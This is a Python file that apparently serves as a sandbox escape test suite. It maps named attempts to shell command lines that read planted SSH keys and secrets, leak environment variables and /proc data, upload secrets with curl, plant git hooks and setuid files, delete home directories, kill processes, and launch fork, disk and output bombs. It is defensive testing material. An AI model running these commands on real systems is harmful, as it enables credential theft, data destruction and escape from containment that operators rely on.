"""Attempts to leave a shell: one command line each, with the names of what was planted in braces."""

from __future__ import annotations

import json
import sys

COMMANDS: dict[str, str] = {
    # Files of the host, by every way to name them.
    "s_read_secret": "cat {home}/.ssh/id_test",
    "s_read_other": "cat {other}/secret.txt",
    "s_read_tmp": "cat /tmp/sbx_host_secret",
    "s_read_passwd": "cat /etc/passwd /etc/group /etc/hosts",
    "s_read_machine": "cat /etc/machine-id /proc/sys/kernel/random/boot_id /etc/hostname",
    "s_read_redirect": "while read -r line; do echo \"$line\"; done < {other}/secret.txt",
    "s_read_dollar": "echo $(<{other}/secret.txt) `cat {other}/secret.txt`",
    "s_read_source": ". {other}/secret.txt; source {other}/secret.txt; bash {other}/secret.txt",
    "s_read_mapfile": "mapfile -t lines < {other}/secret.txt; echo \"${{lines[@]}}\"",
    "s_read_tools": "head -c 99 {other}/secret.txt; tail {other}/secret.txt; sed p {other}/secret.txt; "
    "awk 1 {other}/secret.txt; grep . {other}/secret.txt; sort {other}/secret.txt; od -c {other}/secret.txt; "
    "base64 {other}/secret.txt; strings {other}/secret.txt; diff {other}/secret.txt /dev/null; tac {other}/secret.txt",
    "s_read_archive": "tar cf - {other} | tar xOf -; gzip -c {other}/secret.txt | gzip -dc; zip -r - {other}",
    "s_read_jq": "jq -Rn 'input' {other}/secret.txt; jq -n --rawfile x {other}/secret.txt '$x'",
    "s_read_awk": "awk 'BEGIN {{ while ((getline line < \"{other}/secret.txt\") > 0) print line }}'",
    "s_read_sed": "echo x | sed 'r {other}/secret.txt'; sed -n 'w {home}/pwned.txt' {other}/secret.txt",
    "s_read_find": "find {home} {other} / -name '*secret*' -exec cat {{}} +; find / -name id_test",
    "s_read_glob": "echo {home}/.ssh/* {home}/* {other}/*; cat {other}/*",
    "s_read_dots": "cat {ws}/../../..{other}/secret.txt; cd {ws}/../../..; cat .{other}/secret.txt",
    "s_read_cd": "cd {other} && cat secret.txt; pushd {home} && ls -la",
    "s_read_encoded": "cat $'\\x2f'$(echo {other}/secret.txt | cut -c2-); p={other}; cat \"${{p}}\"/secret.txt",
    "s_read_link": "ln -s {other}/secret.txt l; cat l; ln -s / r; cat r{other}/secret.txt; cat link_home/.ssh/id_test",
    "s_read_hardlink": "ln {other}/secret.txt h && cat h; cp {other}/secret.txt c && cat c",
    "s_read_skill_link": "cat {skill}/../../..{other}/secret.txt; cat /.sandbox/skills/../..{other}/secret.txt",
    "s_list_home": "ls -la {home} | grep -q delete_me && echo BREACH:listed",
    "s_list_parents": "ls / /root /home /var/tmp /tmp /run | grep -qE 'attack.*home|sbx_host' && echo BREACH:ls",
    "s_stat_secret": "stat -c %s {home}/.ssh/id_test | grep -qx 61 && echo BREACH:61; "
    "test -e {home}/.ssh/id_test && echo BREACH:exists",
    # Writing there.
    "s_write_home": "echo pwned > {home}/pwned.txt; echo pwned >> {home}/.bashrc; tee {home}/t < /dev/null",
    "s_write_link": "echo pwned > link_home/pwned.txt; cp SKILL.md link_home/; mkdir link_home/pwned",
    "s_write_skill": "echo pwned >> {skill}/SKILL.md; rm -rf {skill}; mv {skill} away; chmod 777 {skill}/SKILL.md",
    "s_write_mount": "echo pwned >> /.sandbox/skills/$(ls /.sandbox/skills | head -n 1)/SKILL.md; "
    "rm -rf /.sandbox/skills",
    "s_write_move": "echo x > m; mv m {home}/moved; rm -rf {home}/delete_me; truncate -s 0 {home}/trunc_me",
    "s_write_modes": "chmod 777 {home}/chmod_me; touch {home}/.bashrc; chown 0:0 {home}/chmod_me",
    "s_write_root": "rm -rf {home} {other}; rm -rf /.././{home}; cd / && rm -rf .{home}/*; find {home} -delete",
    "s_write_archive": "mkdir -p x/y; echo pwned > x/y/z; tar cf a.tar x/y/z; tar xPf a.tar -C {home}; "
    "unzip -d {home} a",
    "s_write_dd": "dd if=/dev/zero of={home}/dd bs=1 count=1; install -m 777 /dev/null {home}/installed",
    "s_write_git_hook": "mkdir -p .git/hooks; echo pwned > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "s_write_git_config": "printf '[core]\\n fsmonitor = echo pwned\\n' >> .git/config",
    "s_write_suid": "echo x > tool; chmod 6755 tool; mkdir -m 6777 s; install -m 4755 tool tool2",
    "s_write_device": "mknod disk b 8 0; mknod mem c 1 1; mkfifo pipe",
    "s_write_link_out": "ln -s {home} out; echo pwned > out/pwned.txt; rm -rf swap; ln -sfn {home} swap; "
    "echo p > swap/p",
    "s_write_names": "touch $'a\\nb' $'\\e[2J' -- '-rf' ' '; mkdir -p a/../../b; echo x > a/../../../escaped",
    # The host's environment, users and processes.
    "s_env": "env; set; export -p; declare -p; printenv; echo $CANARY",
    "s_env_tools": "jq -n env; awk 'BEGIN {{ for (n in ENVIRON) print n, ENVIRON[n] }}'; echo '$CANARY' | envsubst",
    "s_env_proc": "cat /proc/self/environ /proc/1/environ /proc/$PPID/environ /proc/{runner}/environ; "
    "cat /proc/{victim}/environ",
    "s_env_indirect": "n=CANARY; echo ${{!n}} ${{!C*}}; eval echo \\$$n",
    "s_proc_files": "cat /proc/version /proc/cpuinfo /proc/meminfo /proc/mounts /proc/cmdline /proc/uptime",
    "s_proc_list": "ls /proc; for p in /proc/[0-9]*; do cat $p/cmdline; done; ps aux; pgrep -a .",
    "s_proc_root": "cat /proc/self/root{other}/secret.txt /proc/1/root{other}/secret.txt /proc/{victim}/cwd/secret.txt",
    "s_proc_fd": "for n in 0 3 4 5 6 7 8 9; do cat <&$n; cat /proc/self/fd/$n /dev/fd/$n; done < /dev/null",
    "s_who": "uname -a; uname -r; hostname; cat /sys/class/dmi/id/product_uuid /sys/kernel/osrelease",
    "s_kill": "kill -9 {victim} {runner}; kill -URG {victim} -1; pkill -URG sh; killall -URG sh",
    "s_trap": "trap 'cat {other}/secret.txt' EXIT ERR DEBUG; false",
    # Programs of the host.
    "s_run_binaries": "/bin/cat {other}/secret.txt; /usr/bin/env; "
    "/usr/bin/python3 -c 'print(open(\"{other}/secret.txt\").read())'",
    "s_run_other_shells": "/bin/sh -c 'cat {other}/secret.txt'; busybox cat {other}/secret.txt; "
    "dash -c 'cat {other}/secret.txt'",
    "s_run_languages": "perl -pe 1 {other}/secret.txt; ruby -e 'puts IO.read(\"{other}/secret.txt\")'; "
    "php -r 'readfile(\"{other}/secret.txt\");'; lua -e 'print(1)'; gcc {other}/secret.txt",
    "s_run_through_tools": "find . -maxdepth 0 -exec /bin/cat {other}/secret.txt \\;; "
    "echo {other}/secret.txt | xargs /bin/cat; "
    "awk 'BEGIN {{ system(\"/bin/cat {other}/secret.txt\") }}'; timeout 1 /bin/cat {other}/secret.txt; "
    "echo x | sed '1e /bin/cat {other}/secret.txt'; sort --compress-program=/bin/cat {other}/secret.txt",
    "s_run_path": "PATH=/bin:/usr/bin:$PATH; hash -r; command -p cat {other}/secret.txt; "
    "exec /bin/cat {other}/secret.txt",
    "s_run_preload": "echo x > l.so; LD_PRELOAD=./l.so cat {other}/secret.txt; enable -f ./l.so cat",
    "s_run_background": "(sleep 60; echo late > {home}/late) & disown; nohup sleep 60 & echo started",
    # The network.
    "s_net_dev_tcp": "exec 3<>/dev/tcp/127.0.0.1/{tcp} && cat <&3; echo x > /dev/udp/127.0.0.1/{udp}",
    "s_net_curl": "curl -s http://127.0.0.1:{tcp}/; curl -s http://localhost:{tcp}/; curl -s http://[::1]:{tcp6}/",
    "s_net_curl_file": "curl -s file://{other}/secret.txt; curl -s -o out file://{other}/secret.txt; cat out",
    "s_net_curl_upload": "curl -s -F f=@{other}/secret.txt http://127.0.0.1:{tcp}/; curl -K {other}/secret.txt; "
    "curl -d @{other}/secret.txt x",
    "s_net_curl_tricks": "curl -s http://example.com@127.0.0.1:{tcp}/; curl -s http://0x7f000001:{tcp}/; "
    "curl -s http://[::ffff:127.0.0.1]:{tcp}/; curl -s http://0:{tcp}/; curl -s --unix-socket {usock} http://x/",
    "s_net_wget": "wget -q -O- http://127.0.0.1:{tcp}/; nc 127.0.0.1 {tcp}; telnet 127.0.0.1 {tcp}; ssh 127.0.0.1",
    "s_net_listen": "nc -l {bindport}; python3 -m http.server {bindport}",
    # The interpreter itself.
    "s_crash_eval": "e='eval \"$e\"'; eval \"$e\"",
    "s_crash_function": "f() {{ f; }}; f; g() {{ g | g & }}; g",
    "s_crash_jq": "jq -n \"$(printf '[%.0s' $(seq 9000))$(printf ']%.0s' $(seq 9000))\"",
    "s_crash_bc": "echo \"$(printf '(%.0s' $(seq 40000))1\" | bc",
    "s_hang_loop": "while :; do :; done",
    "s_hang_sleep": "sleep 1000",
    "s_hang_input": "cat; read x; tail -f /dev/null",
    "s_bomb_text": "x=aaaaaaaa; while :; do x=$x$x; done",
    "s_bomb_braces": "echo {{1..100000000}} | head -c 10",
    "s_bomb_printf": "printf '%1000000000d' 1 | head -c 10; printf '%.1000000000f' 1 | head -c 10",
    "s_bomb_files": "i=0; while [ $i -lt 200000 ]; do echo x > f$i; i=$((i+1)); done",
    "s_bomb_disk": "head -c 400000000 /dev/zero > big; cat big big big > bigger",
    "s_bomb_output": "yes x | head -c 100000000",
    "s_bomb_regex": "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! | grep -E '^(a+)+$'; "
    "[[ aaaaaaaaaaaaaaaaaaaaaaaaaaaaa! =~ ^(a+)+$ ]]",
}  # fmt: skip


def command(name: str, arguments: str) -> str:
    """The command line of an attempt, for what was planted."""
    return "echo BEGUN; " + COMMANDS[name].format(**json.loads(arguments))


if __name__ == "__main__":
    print(json.dumps(list(COMMANDS)) if sys.argv[1] == "list" else command(*sys.argv[1:3]))
